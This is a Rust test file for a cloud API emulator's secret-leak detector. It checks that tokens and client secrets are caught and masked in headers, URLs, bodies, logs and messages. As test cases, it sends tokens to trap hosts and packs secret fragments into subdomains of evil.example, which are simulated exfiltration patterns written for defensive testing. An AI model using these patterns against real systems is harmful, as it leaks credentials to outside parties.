//! Secrets where none belongs: in URLs, headers and output, and at hosts that are no part of the cloud.

use std::process::Command;

use base64::{Engine as _, engine::general_purpose::STANDARD};
use greenroom_emulator::{
    Emulator,
    command::{Command as Wish, Reply, SandboxOptions},
};
use greenroom_model::{
    call::OpKind,
    history::{Decision, Encoding, Event, Place, ReplyNote, StepNote, Stream},
    spec::{Secrets, Spec},
    world::World,
};
use reqwest::Method;

use super::{TRAP, entries, in_short, is_in_output, leaks, nothing_shows, watching};
use crate::{
    rules::rule,
    wire::{DEVICES, INVENTORY, MSP_TENANTS, Wire, credentials, issuer, until},
};

/// Runs the real curl through the emulator as its proxy. Says which status it saw.
async fn curl(wire: &Wire, more: &[&str]) -> String {
    let mut command = Command::new("curl");
    command.args(["--silent", "--show-error", "--max-time", "60", "--write-out", "%{http_code}\n"]);
    command.arg("--cacert").arg(wire.emulator.ca_file()).args(["--proxy", wire.emulator.url()]).args(more);
    command.env_remove("NO_PROXY").env_remove("no_proxy");
    let output = tokio::task::spawn_blocking(move || command.output()).await.unwrap();
    let output = output.unwrap_or_else(|error| panic!("this test runs the real curl: {error}"));
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

#[tokio::test]
async fn what_arrives_at_a_trap_is_seen_arriving() {
    for scheme in ["https", "http"] {
        let wire = Wire::start(watching()).await;
        let token = wire.mint("msp").await;
        let url = format!("{scheme}://{TRAP}/devices/v1/devices?next=2");
        let said = curl(&wire, &[&url, "--header", &format!("Authorization: Bearer {token}")]).await;
        assert!(said.ends_with("\n404\n"), "{said}");
        let exchange = wire.last_exchange();
        let (request, response) = (&exchange.request, exchange.response.as_ref().unwrap());
        assert_eq!(
            (request.op, request.host.as_str(), request.tls),
            (OpKind::Other, TRAP, scheme == "https")
        );
        assert_eq!(request.token.as_ref().unwrap().symbol, "msp#1");
        assert_eq!(request.actor.as_deref(), Some("msp"));
        assert_eq!((response.status, response.decision), (Some(404), Decision::Refused));
        let leaks = leaks(&wire);
        assert_eq!(in_short(&leaks), [format!("msp#1 in header to {TRAP} as raw")], "{scheme}");
        assert_eq!(leaks[0].request, Some(exchange.n));
        nothing_shows(&wire, &[&token]);
    }
}

#[tokio::test]
async fn a_trap_takes_forms_urls_and_basic_credentials_too() {
    let wire = Wire::start(watching()).await;
    let token = wire.mint("msp").await;
    let (id, secret) = credentials("standard");
    let form = format!("client_id={id}&client_secret={secret}&subject_token={token}");
    let url = format!("https://{TRAP}/as/token.oauth2?t={}", token.split('.').nth(2).unwrap());
    let said = curl(&wire, &[&url, "--data", &form, "--user", &format!("{id}:{secret}")]).await;
    assert!(said.ends_with("404\n"), "{said}");
    assert_eq!(wire.last_exchange().request.op, OpKind::Other, "a trap is no token endpoint");
    let to = format!("to {TRAP} as");
    assert_eq!(
        in_short(&leaks(&wire)),
        [
            format!("client:standard in body {to} raw"),
            format!("client:standard in header {to} base64"),
            format!("msp#1 in body {to} raw"),
            format!("msp#1 in url {to} raw"),
        ]
    );
    nothing_shows(&wire, &[&token, &secret]);
}

#[tokio::test]
async fn a_host_that_nobody_stands_in_for_is_watched_like_a_trap() {
    let wire = Wire::start(watching()).await;
    let token = wire.mint("msp").await;
    let said = curl(&wire, &["http://other.example.net/x", "--data", &format!("t={token}")]).await;
    assert!(said.ends_with("403\n"), "{said}");
    assert_eq!(in_short(&leaks(&wire)), ["msp#1 in body to other.example.net as raw"]);
    let refused = wire.last_exchange();
    assert_eq!(refused.response.unwrap().refused.as_deref(), Some("unexpected_host"));
    // No tunnel leads there, nor to another port of a trap.
    for url in ["https://other.example.net/x", &format!("https://{TRAP}:8443/x")] {
        assert!(curl(&wire, &[url]).await.contains("403"), "{url}");
    }
    nothing_shows(&wire, &[&token]);
}

/// Whoever resolves the name reads it, whether anything answers there or not.
#[tokio::test]
async fn what_stands_in_the_name_of_a_host_is_given_away() {
    let wire = Wire::start(watching()).await;
    let (_, secret) = credentials("msp");
    let token = wire.mint("msp").await;
    assert!(wire.raw(b"CONNECT Evil.Example.:443 HTTP/1.1\r\n\r\n").await.starts_with("HTTP/1.1 403 "));
    for part in [&secret[4..28], &token.split('.').nth(2).unwrap()[..40]] {
        let head = format!("CONNECT {part}.evil.example:443 HTTP/1.1\r\n\r\n");
        assert!(wire.raw(head.as_bytes()).await.starts_with("HTTP/1.1 403 "), "{head}");
    }
    let refused: Vec<_> = entries(&wire)
        .into_iter()
        .filter_map(|entry| match entry.event {
            Event::Connection { what, host, .. } if what == "refused" => host,
            _ => None,
        })
        .collect();
    let (secret_there, token_there) = ("client:msp.evil.example:443", "msp#1.evil.example:443");
    assert_eq!(refused, ["evil.example:443", secret_there, token_there]);
    let told = |name: &str, host: &str| format!("{name} in url to {host} as raw");
    assert_eq!(in_short(&leaks(&wire)), [told("client:msp", secret_there), told("msp#1", token_there)]);
    nothing_shows(&wire, &[&secret, &token]);

    let wire = Wire::start(watching()).await;
    let head = format!("GET http://{}.evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n", &secret[4..28]);
    assert!(wire.raw(head.as_bytes()).await.starts_with("HTTP/1.1 403 "));
    assert_eq!(in_short(&leaks(&wire)), [told("client:msp", "client:msp.evil.example")]);
    nothing_shows(&wire, &[&secret]);
}

#[tokio::test]
async fn rules_are_asked_about_traps() {
    let wire = Wire::start(watching()).await;
    let connect = format!(r#"{{"when":{{"host":"{TRAP}","at":"connect","nth":1}},"do":[{{"close":{{}}}}]}}"#);
    let request =
        format!(r#"{{"when":{{"host":"{TRAP}"}},"do":[{{"reply":{{"status":200,"body":{{"a":1}}}}}}]}}"#);
    for json in [&connect, &request] {
        assert_eq!(wire.emulator.faults().add(rule(json)).unwrap().notes, [""; 0], "it is no unknown host");
    }
    let url = format!("https://{TRAP}/x");
    assert!(curl(&wire, &[&url]).await.starts_with("000\n"), "the connection ends");
    assert_eq!(curl(&wire, &[&url]).await, "{\"a\":1}200\n");
    assert_eq!(curl(&wire, &[&format!("http://{TRAP}/x")]).await, "{\"a\":1}200\n");
}

#[tokio::test]
async fn credentials_belong_in_one_header_and_in_forms_and_nowhere_else() {
    let wire = Wire::start(watching()).await;
    let (id, secret) = credentials("msp");
    let token = wire.mint("msp").await;
    let abc = wire.exchange(&token, "abc").await;
    let basic = format!("Basic {}", STANDARD.encode(format!("{id}:{secret}")));
    let grant = [("grant_type", "client_credentials")];
    assert_eq!(wire.post(&issuer("msp"), &[("authorization", &basic)], &grant).await.status, 200);
    assert_eq!(wire.get(INVENTORY, &abc).await.status, 200);
    assert_eq!(leaks(&wire), []);

    wire.emulator.begin_phase("hit").unwrap();
    wire.emulator.evidence().step(StepNote { id: 1, log: Some("DEBUG".into()), ..StepNote::default() });
    let signature = abc.split('.').nth(2).unwrap();
    let bearer = format!("Bearer {abc}");
    wire.send(Method::GET, DEVICES, &[("authorization", &bearer), ("x-trace", &signature[20..50])], "").await;
    let seen = leaks(&wire);
    assert_eq!(in_short(&seen), ["abc#1 in header as raw"]);
    assert_eq!((seen[0].step.as_deref(), seen[0].log.as_deref()), (Some("hit"), Some("DEBUG")));
    assert_eq!(seen[0].request, Some(wire.last_exchange().n));
    let escaped: String = secret.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let part = STANDARD.encode(&signature[..40]);
    wire.get(&format!("{DEVICES}?filter={escaped}&x={part}"), &abc).await;
    // The name of a file is no better a place than a query.
    wire.get(&format!("/devices/{}", &signature[30..60]), &abc).await;
    assert_eq!(
        in_short(&leaks(&wire)[1..]),
        ["abc#1 in url as base64", "abc#1 in url as raw", "client:msp in url as url"]
    );
    nothing_shows(&wire, &[&token, &abc, &secret, &escaped, &part]);
}

/// A token is sent in one way (RFC 6750 §2): in a form (§2.2) or in JSON it is a second one.
#[tokio::test]
async fn bodies_of_resources_are_looked_through() {
    let wire = Wire::start(watching()).await;
    let (_, secret) = credentials("msp");
    let token = wire.mint("msp").await;
    let abc = wire.exchange(&token, "abc").await;
    assert_eq!(leaks(&wire), [], "forms of token endpoints are where both belong");
    let bearer = format!("Bearer {abc}");
    let json = ("content-type", "application/json");
    let form = ("content-type", "application/x-www-form-urlencoded");
    let unknown = "/devices/v1/no-such-thing";
    let mut known = 0;
    for (path, kind, body, told) in [
        (MSP_TENANTS, json, format!(r#"{{"note":"{abc}"}}"#), "abc#1 in body as raw"),
        (MSP_TENANTS, form, format!("access_token={token}"), "msp#1 in body as raw"),
        (unknown, json, format!(r#"["{secret}"]"#), "client:msp in body as raw"),
        (
            MSP_TENANTS,
            json,
            format!(r#"{{"note":"{}"}}"#, STANDARD.encode(&secret)),
            "client:msp in body as base64",
        ),
    ] {
        wire.send(Method::POST, path, &[("authorization", &bearer), kind], &body).await;
        let seen = leaks(&wire).split_off(known);
        known += seen.len();
        assert_eq!(in_short(&seen), [told], "{path}");
        assert_eq!(seen[0].request, Some(wire.last_exchange().n));
    }
    nothing_shows(&wire, &[&token, &abc, &secret]);
}

#[tokio::test]
async fn output_and_messages_are_looked_through() {
    let wire = Wire::start(watching()).await;
    let token = wire.mint("msp").await;
    let abc = wire.exchange(&token, "abc").await;
    let (_, secret) = credentials("msp");
    let told = wire.emulator.evidence();
    wire.emulator.begin_phase("enter").unwrap();
    let open = StepNote {
        id: 1,
        step: "open".into(),
        verb: "open".into(),
        log: Some("INFO".into()),
        ..StepNote::default()
    };
    told.step(open);
    let line = format!("DEBUG Authorization: Bearer {abc}\n");
    let (first, second) = line.as_bytes().split_at(150);
    told.output(Stream::Stderr, first);
    told.output(Stream::Stdout, format!("{{'secret': '{}'}}", STANDARD.encode(&secret)).as_bytes());
    told.output(Stream::Stderr, second);
    told.flush();
    let message = format!("401 for {}", token.split('.').nth(1).unwrap());
    told.reply(ReplyNote { id: 1, step: "open".into(), message: Some(message), ..ReplyNote::default() });

    let events: Vec<_> = entries(&wire).into_iter().map(|entry| entry.event).collect();
    let output = events.iter().find_map(|event| match event {
        Event::Output { stream: Stream::Stderr, text } => Some(text.as_str()),
        _ => None,
    });
    assert_eq!(output, Some("DEBUG Authorization: Bearer abc#1\n"));
    let reply = events.iter().find_map(|event| match event {
        Event::Reply(reply) => reply.message.as_deref(),
        _ => None,
    });
    assert_eq!(reply, Some("401 for msp#1"));
    let seen = leaks(&wire);
    assert_eq!(
        in_short(&seen),
        ["abc#1 in output as raw", "client:msp in output as base64", "msp#1 in message as raw"]
    );
    assert!(seen.iter().all(|leak| leak.log.as_deref() == Some("INFO")));
    let steps: Vec<_> = seen.iter().map(|leak| (is_in_output(leak), leak.step.as_deref())).collect();
    assert_eq!(steps, [(true, Some("enter")), (true, Some("enter")), (false, Some("open"))]);
    nothing_shows(&wire, &[&token, &abc, &secret]);
}

/// Tokens that nobody asked for, secrets that came later: what a client could have is looked for.
#[tokio::test]
async fn what_came_later_is_looked_for_too() {
    let wire = Wire::start(watching()).await;
    let issued = wire.issue("msp", Some("abc"));
    let rotate = r#"{"when":{"op":"api","at":"request"},"do":[{"rotate_secret":"msp"}]}"#;
    wire.emulator.faults().add(rule(rotate)).unwrap();
    wire.get(DEVICES, &issued).await;
    let Ok(Reply::Exported(file)) = wire.emulator.run(Wish::ExportWorld(Secrets::Shown)) else {
        panic!("no world")
    };
    let world = World::from_spec(&Spec::read(file.world.as_bytes()).unwrap()).unwrap();
    let client = world.client(world.client_named("msp").unwrap());
    let renewed = client.secret.value().unwrap().reveal().to_owned();
    let (_, before) = credentials("msp");
    assert_ne!(renewed, before);
    wire.emulator.evidence().output(Stream::Stdout, format!("{issued}\n{renewed}\n{before}\n").as_bytes());
    assert_eq!(in_short(&leaks(&wire)), ["abc#1 in output as raw", "client:msp in output as raw"]);
    nothing_shows(&wire, &[&issued, &renewed, &before]);
}

#[tokio::test]
async fn nothing_is_looked_for_where_no_evidence_is_gathered() {
    let wire = Wire::frozen().await;
    let token = wire.mint("msp").await;
    wire.emulator.evidence().output(Stream::Stdout, format!("{token}\n").as_bytes());
    wire.send(Method::GET, DEVICES, &[("x-trace", &token)], "").await;
    assert_eq!(leaks(&wire), []);
    // What is known of a secret by its looks or its value is hidden all the same.
    nothing_shows(&wire, &[&token]);
}

#[tokio::test]
async fn who_leaves_in_the_middle_of_a_body_has_been_seen() {
    for host in [TRAP, "other.example.net"] {
        let wire = Wire::start(watching()).await;
        let token = wire.mint("msp").await;
        let head = format!(
            "POST http://{host}/x HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nContent-Length: 9\r\n\r\n"
        );
        wire.raw(head.as_bytes()).await;
        until("it is never recorded", || !leaks(&wire).is_empty()).await;
        assert_eq!(in_short(&leaks(&wire)), [format!("msp#1 in header to {host} as raw")]);
        let gone = wire.last_exchange();
        assert!(gone.request.host == host && gone.response.is_some());
    }
}

/// A sandbox beside the emulator knows its own tokens only.
#[tokio::test]
async fn sandboxes_watch_for_themselves() {
    let main = Wire::start(watching()).await;
    let token = main.mint("msp").await;
    let options =
        SandboxOptions { evidence: true, traps: vec![TRAP.to_uppercase()], ..SandboxOptions::default() };
    let beside = Wire::of(Box::new(main.emulator.open_sandbox(options).unwrap()));
    let own = beside.mint("msp").await;
    assert_ne!(own, token);
    let trap = format!("http://{TRAP}/");
    let answer =
        beside.proxied().get(&trap).header("x-own", &own).header("x-other", &token).send().await.unwrap();
    assert_eq!(answer.status(), 404);
    let (entries, _) = beside.emulator.history().entries(0);
    let seen: Vec<_> = entries
        .iter()
        .filter_map(|entry| match &entry.event {
            Event::Leak(leak) => Some((leak.symbol.as_str(), leak.place, leak.encoding)),
            _ => None,
        })
        .collect();
    assert_eq!(seen, [("msp#1", Place::Header, Encoding::Raw)]);
    let plain = SandboxOptions::default();
    let plain = Wire::of(Box::new(main.emulator.open_sandbox(plain).unwrap()));
    assert_eq!(plain.proxied().get(&trap).send().await.unwrap().status(), 403, "no trap there");
    for (wrong, why) in [("http://x", "is no host name"), ("sso.common.cloud.hpe.com", "answers for")] {
        let options = SandboxOptions { traps: vec![wrong.to_owned()], ..SandboxOptions::default() };
        let error = main.emulator.open_sandbox(options).err().unwrap();
        assert!(error.field.as_deref() == Some("traps") && error.message.contains(why), "{error}");
        let error = Emulator::builder().traps(vec![wrong.to_owned()]).start().await.err().unwrap();
        assert!(error.to_string().contains(why), "{error}");
    }
}
